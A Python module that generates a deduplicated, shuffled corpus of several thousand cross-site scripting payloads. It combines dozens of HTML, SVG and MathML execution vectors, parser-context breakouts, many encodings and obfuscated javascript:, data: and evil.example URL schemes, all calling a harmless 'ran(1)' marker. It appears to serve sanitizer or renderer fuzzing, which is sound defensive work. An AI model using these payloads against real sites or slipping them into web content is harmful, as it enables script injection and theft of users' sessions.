"""Nearly five thousand hostile texts: what runs, where it stands and how it is written."""

import random
from base64 import b64encode
from collections.abc import Callable, Iterator
from itertools import product
from typing import Final
from urllib.parse import quote

# As long as a trait may be.
_LONGEST: Final = 500
_CALL: Final = "ran(1)"
# Each runs by itself, or as soon as somebody touches it.
_RUNNING: Final = [
    "<script>{}</script>",
    "<script src=data:,{}></script>",
    "<script/x>{}</script >",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<img/src='x'/onerror='{}'>",
    "<img src=x onerror\n=\n{}>",
    "<img src=x onerror\x0c={}//",
    "<img src=`x` onerror=`{}`>",
    "<IMG SRC=x ONERROR={}>",
    "<image src=x onerror={}>",
    "<img srcset='x, y 2x' onerror={}>",
    "<picture><source srcset=x><img onerror={}></picture>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><g onload={}></g></svg>",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} /></svg>",
    "<svg><a xlink:href=javascript:{}><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x>",
    "<svg><a><animate attributeName=href values=javascript:{} /><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<svg><desc><img src=x onerror={}></desc></svg>",
    "<svg><title><img src=x onerror={}></title></svg>",
    "<svg><image href=x onerror={}></svg>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<math href='javascript:{}'>x</math>",
    "<math><maction actiontype=statusline xlink:href='javascript:{}'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={}></annotation-xml></math>",
    "<iframe onload={}>",
    "<iframe srcdoc='<img src=x onerror=parent.{}>'>",
    "<iframe src='javascript:parent.{}'>",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<div tabindex=1 id=x autofocus onfocusin={}>",
    "<div contenteditable autofocus onfocus={}>",
    "<p onmouseover={}>x</p>",
    "<p style='animation:x 1s' onanimationstart={}>x</p>",
    "<p style='transition:all 1s' ontransitionrun={}>x</p>",
    "<details open ontoggle={}>x</details>",
    "<marquee onstart={}>x</marquee>",
    "<audio src=x onerror={}>",
    "<video poster=x><source onerror={}></video>",
    "<video onloadstart={} src=x></video>",
    "<dialog open onclose={}><form method=dialog><button>x</button></form></dialog>",
    "<button popovertarget=p>x</button><p popover id=p onbeforetoggle={}>x</p>",
    "<form><button formaction='javascript:{}'>x</button></form>",
    "<form action='javascript:{}'><input type=submit></form>",
    "<isindex action='javascript:{}' type=submit>",
    "<a href='javascript:{}'>x</a>",
    "<a href=javascript:{} target=_blank>x</a>",
    "<link rel=stylesheet href=x onerror={}>",
    "<style onload={}></style>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
    "<x-element is=x onclick={}>x</x-element>",
    "<table background='javascript:{}'><td>x</td></table>",
    "<xml><i><b><img src=x onerror={}></b></i></xml>",
    "<?xml-stylesheet href='javascript:{}'?>",
    "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    "<![CDATA[<script>{}</script>]]>",
]

# What a parser may be in the middle of; some of these mean one thing first and another later.
_PLACES: Final = [
    "{}",
    '">{}',
    "'>{}",
    "`>{}",
    "-->{}<!--",
    "--!>{}",
    "]]>{}",
    "</script>{}",
    "</style></title></textarea>{}",
    "</xmp></noscript></noembed></noframes></plaintext>{}",
    '<noscript><p title="</noscript>{}">',
    '<style><a title="</style>{}"></style>',
    '<svg></p><style><a id="</style>{}">',
    '<math><mi><style><a title="</style>{}">',
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<math><mtext><table><mglyph><style><!--</style>{}-->",
    "<svg><p><style><!--</style>{}-->",
    "<table><tr><select>{}</select></tr></table>",
    "<option><style></option></select><b>{}</style></option>",
    "<template><template>{}</template></template>",
    "<b><i><u>" * 30 + "{}",
    "*/{}/*",
    '\\"}};{}//',
    "```html\n{}\n```",
    "> {}",
    "**{}**",
    "| a |\n| - |\n| {} |",
    "\u202e{}\u202c",
    "\u2066{}\u2069",
    "\ufeff\u200b{}",
]


def _entities(text: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in text)


def _short_entities(text: str) -> str:
    """In base 16 and without an end, which browsers still read."""
    return "".join(f"&#x{ord(letter):05x}" for letter in text)


def _named(text: str) -> str:
    names = {"<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&apos;", "(": "&lpar;", ":": "&colon;"}
    return "".join(names.get(letter, letter) for letter in text)


def _in_javascript(text: str) -> str:
    return "".join(f"\\u{ord(letter):04x}" for letter in text)


def _wide(text: str) -> str:
    """In letters that some normal forms make into the ones meant."""
    return "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in text)


def _swapped(text: str) -> str:
    return "".join(each.upper() if at % 2 else each.lower() for at, each in enumerate(text))


_WRITTEN: Final[list[Callable[[str], str]]] = [
    _entities,
    _short_entities,
    _named,
    lambda text: _named(_named(text).replace("&", "&amp;")),
    quote,
    lambda text: quote(quote(text)),
    _in_javascript,
    lambda text: "".join(f"\\x{ord(letter) & 255:02x}" for letter in text),
    _wide,
    _swapped,
    lambda text: text.replace("<", "<\x01").replace("=", "\x0b="),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.encode().decode("latin-1"),
    "\u200d".join,
]

# What some reader of addresses takes for `javascript:` or another door.
_SCHEMES: Final = [
    "javascript:{}",
    "JAVASCRIPT:{}",
    "jAvAsCrIpT:{}",
    " javascript:{}",
    "\x01javascript:{}",
    "\x1f\x20javascript:{}",
    "\u00a0javascript:{}",
    "\u2028javascript:{}",
    "java\nscript:{}",
    "java\r\nscript:{}",
    "j\ta\tv\ta\tscript:{}",
    "javascript\t:{}",
    "javascript&colon;{}",
    "javascript&#58;{}",
    "javascript&#x3A;{}",
    "&#106;avascript:{}",
    "java&Tab;script:{}",
    "java&NewLine;script:{}",
    "javascript%3A{}",
    "javascript:%72an(1)",
    "javascript:/*--></title>*/{}",
    "javascript://%0a{}",
    "javascript://https://shop.example/%0d%0a{}",
    "javascript:void({})",
    "javascript:'<script>{}</script>'",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    "jar:javascript:{}!/",
    "vbscript:{}",
    "livescript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;charset=utf-7,+ADw-script+AD4-{}",
    "data:text/html;base64," + b64encode(f"<script>{_CALL}</script>".encode()).decode(),
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{}</script>",
    "blob:https://evil.example/{}",
    "filesystem:https://evil.example/{}",
    "https://evil.example/{}",
    "//evil.example/{}",
    "/\\evil.example/{}",
    "\\\\evil.example\\{}",
    "https:evil.example/{}",
    "http://evil.example\u2044shop.example/{}",
    "https://shop.example@evil.example/{}",
    "https://\u0435vil.example/{}",
]
_CARRIERS: Final = [
    "{}",
    "see {} there",
    "<{}>",
    "({})",
    '"{}"',
    "[x]({})",
    "[x](<{}>)",
    "[x]({} 'title')",
    "![x]({})",
    "[![x]({})]({})",
    "[x]: {}\n\n[x]",
    '[x][1]\n\n[1]: {} "onmouseover=ran(1)"',
    "<{}|x>",
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    "<img src='{}'>",
    "<area shape=default href='{}'>",
    "<iframe src='{}'></iframe>",
    "<form action='{}'><button>x</button></form>",
    "<svg><use href='{}'/></svg>",
    "<object data='{}'></object>",
    "<p style=\"background:url('{}')\">x</p>",
    "<style>@import '{}';</style>",
    "<style>*{{background:url({})}}</style>",
    "x;background-image:url('{}')",
    "<link rel=import href='{}'>",
    "<link rel=prefetch href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<video poster='{}'></video>",
    "<a ping='{}' href=x>x</a>",
]


def _every() -> Iterator[str]:
    running = [one.format(_CALL) for one in _RUNNING]
    addresses = [scheme.format(_CALL) for scheme in _SCHEMES]
    yield from (place.format(one) for place, one in product(_PLACES, running))
    yield from (write(one) for write, one in product(_WRITTEN, [*running, *addresses]))
    for carrier, address in product(_CARRIERS, addresses):
        yield carrier.format(*[address] * carrier.count("{}"))


def disguises() -> list[str]:
    """The same ones each time, in an order in which any part of them is a fair sample."""
    every = dict.fromkeys(text for text in _every() if len(text) <= _LONGEST)
    return random.Random(1).sample(list(every), len(every))
